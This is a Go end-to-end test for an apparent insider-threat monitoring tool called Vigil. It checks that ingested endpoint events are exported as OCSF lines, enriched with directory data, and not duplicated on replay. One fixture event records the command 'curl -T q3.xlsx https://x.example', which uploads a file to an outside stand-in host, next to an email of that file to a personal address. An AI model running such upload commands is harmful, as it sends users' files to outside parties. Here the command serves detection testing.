package e2e_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/vigil-itm/vigil/alerts"
	"github.com/vigil-itm/vigil/event"
	"github.com/vigil-itm/vigil/store"
)

// TestEventStreamReachesFile is the event stream walk-through: an agent
// posts a batch of events through the API; every newly stored event
// arrives as one OCSF line, in its class, in the file of a sink whose
// stream is events, enriched with the directory's user context, and only
// the actions another sink asks for reach it as Vigil JSON. A replay of
// the same batch exports nothing twice.
func TestEventStreamReachesFile(t *testing.T) {
	dir := t.TempDir()
	lake, siem := filepath.Join(dir, "events.ocsf.jsonl"), filepath.Join(dir, "email.jsonl")
	sinks := fmt.Sprintf(`drain_timeout: 2s
outputs:
  - name: lake
    type: file
    stream: events
    file: {path: %q}
  - name: mail
    type: file
    stream: events
    format: json
    events: {actions: [email-sent]}
    file: {path: %q}
`, lake, siem)
	s := startServer(t, fmt.Sprintf("scim: {token: %q}\n", scimToken), sinks, e2eVersion)
	status, body := s.do(http.MethodPost, "/scim/v2/Users", "Bearer "+scimToken, `{
  "schemas": ["urn:ietf:params:scim:schemas:core:2.0:User", "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User"],
  "userName": "jdoe@corp.example", "displayName": "Jane Doe", "active": true,
  "emails": [{"value": "jdoe@corp.example", "type": "work", "primary": true}],
  "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User": {"department": "Finance"}
}`)
	require.Equal(t, http.StatusCreated, status, "%s", body)

	at := time.Date(2026, 11, 24, 14, 0, 0, 0, time.UTC)
	ev := func(n int, action, fields string) string {
		return fmt.Sprintf(`{"@timestamp": %q, "event": {"id": "01JDE2E00000000000000EV%03d", "kind": "event", "action": %q, "module": "e2e", "outcome": "success"},
  "host": {"id": "h-042", "name": "ws-042", "os": {"family": "linux", "name": "Debian", "version": "12"}},
  "user": {"id": "1000", "name": "jdoe"}%s}`, at.Add(time.Duration(n)*time.Second).Format(time.RFC3339Nano), n, action, fields)
	}
	events := []string{
		ev(1, event.ActionFileCreated, `, "file": {"path": "/home/jdoe/q3.xlsx", "name": "q3.xlsx", "size": 100}`),
		ev(2, event.ActionProcessStarted, `, "process": {"pid": 77, "name": "curl", "executable": "/usr/bin/curl", "command_line": "curl -T q3.xlsx https://x.example"}`),
		ev(3, event.ActionConnectionOpened, `, "destination": {"ip": "192.0.2.7", "port": 443, "domain": "x.example"}`),
		ev(4, event.ActionEmailSent, `, "email": {"from": "jdoe@corp.example", "to": ["me@mail.example"], "subject": "q3"}`),
		ev(5, event.ActionClipboardCopy, `, "clipboard": {"operation": "copy", "content_length": 42, "source_app": "libreoffice"}`),
	}
	batch := `{"seq": 1, "events": [` + strings.Join(events, ",") + `]}`
	var ingest struct {
		Stored         int
		DuplicateBatch bool `json:"duplicate_batch"`
	}
	s.api(store.RoleAgent, http.MethodPost, "/api/v1/events", batch, http.StatusOK, &ingest)
	require.Equal(t, 5, ingest.Stored)

	read := func(path string) []string {
		b, err := os.ReadFile(path)
		if os.IsNotExist(err) {
			return nil
		}
		require.NoError(t, err)
		return strings.Split(strings.TrimSuffix(string(b), "\n"), "\n")
	}
	require.Eventually(t, func() bool { return len(read(lake)) == 5 && len(read(siem)) == 1 }, 30*time.Second, 20*time.Millisecond)

	wantClass := []struct {
		class int64
		name  string
	}{{1001, "File System Activity"}, {1007, "Process Activity"}, {4001, "Network Activity"}, {4009, "Email Activity"}, {0, "Base Event"}}
	for i, line := range read(lake) {
		var o alerts.OCSFEvent
		require.NoError(t, json.Unmarshal([]byte(line), &o), line)
		require.Equal(t, wantClass[i].class, o.ClassUID, line)
		require.Equal(t, wantClass[i].name, o.ClassName, line)
		require.Equal(t, fmt.Sprintf("01JDE2E00000000000000EV%03d", i+1), o.Metadata.UID, "in the order stored")
		require.Equal(t, at.Add(time.Duration(i+1)*time.Second).UnixMilli(), o.Time)
		require.Equal(t, e2eVersion, o.Metadata.Product.Version)
		require.Equal(t, "ws-042", o.Device.Hostname)
	}
	lines := read(lake)
	requireJSONSubset(t, `{"class_uid": 1001, "activity_id": 1, "type_uid": 100101,
  "actor": {"user": {"name": "jdoe", "uid": "1000", "email_addr": "jdoe@corp.example"}},
  "file": {"name": "q3.xlsx", "path": "/home/jdoe/q3.xlsx", "size": 100, "type_id": 1},
  "unmapped": {"vigil": {"action": "file-created", "module": "e2e"}}}`, []byte(lines[0]))
	requireJSONSubset(t, `{"actor": {"process": {"pid": 77, "name": "curl", "cmd_line": "curl -T q3.xlsx https://x.example"}}}`, []byte(lines[1]))
	requireJSONSubset(t, `{"dst_endpoint": {"hostname": "x.example", "ip": "192.0.2.7", "port": 443}}`, []byte(lines[2]))
	requireJSONSubset(t, `{"email": {"from": "jdoe@corp.example", "to": ["me@mail.example"], "subject": "q3"}}`, []byte(lines[3]))
	requireJSONSubset(t, `{"unmapped": {"vigil": {"action": "clipboard-copy", "clipboard": {"operation": "copy", "content_length": 42, "source_app": "libreoffice"}}}}`, []byte(lines[4]))

	var mail event.Event
	require.NoError(t, json.Unmarshal([]byte(read(siem)[0]), &mail))
	require.Equal(t, "01JDE2E00000000000000EV004", mail.Event.ID)
	require.Equal(t, "Finance", mail.User.Department, "exported as enriched by the directory")

	// The agent retries the same batch: it is a replay, exported once. The
	// next batch queues behind it, so when its event is in the file, a
	// second export of the replay would be too.
	s.api(store.RoleAgent, http.MethodPost, "/api/v1/events", batch, http.StatusOK, &ingest)
	require.Zero(t, ingest.Stored)
	require.True(t, ingest.DuplicateBatch)
	s.api(store.RoleAgent, http.MethodPost, "/api/v1/events", `{"seq": 2, "events": [`+ev(6, event.ActionLogon, "")+`]}`, http.StatusOK, &ingest)
	require.Equal(t, 1, ingest.Stored)
	require.Eventually(t, func() bool { return len(read(lake)) >= 6 }, 30*time.Second, 20*time.Millisecond)
	lines = read(lake)
	require.Len(t, lines, 6, "a replayed batch is not exported again")
	var logon alerts.OCSFEvent
	require.NoError(t, json.Unmarshal([]byte(lines[5]), &logon))
	require.Equal(t, "01JDE2E00000000000000EV006", logon.Metadata.UID)
	require.EqualValues(t, 3002, logon.ClassUID)
	var sl struct{ Sinks []alerts.SinkStatus }
	s.api(store.RoleAdmin, http.MethodGet, "/api/v1/sinks", "", http.StatusOK, &sl)
	require.Len(t, sl.Sinks, 2)
	require.Equal(t, alerts.StreamEvents, sl.Sinks[0].Stream)
	require.Zero(t, sl.Sinks[0].EventsQueued)
	require.Zero(t, sl.Sinks[0].EventsDropped)
}
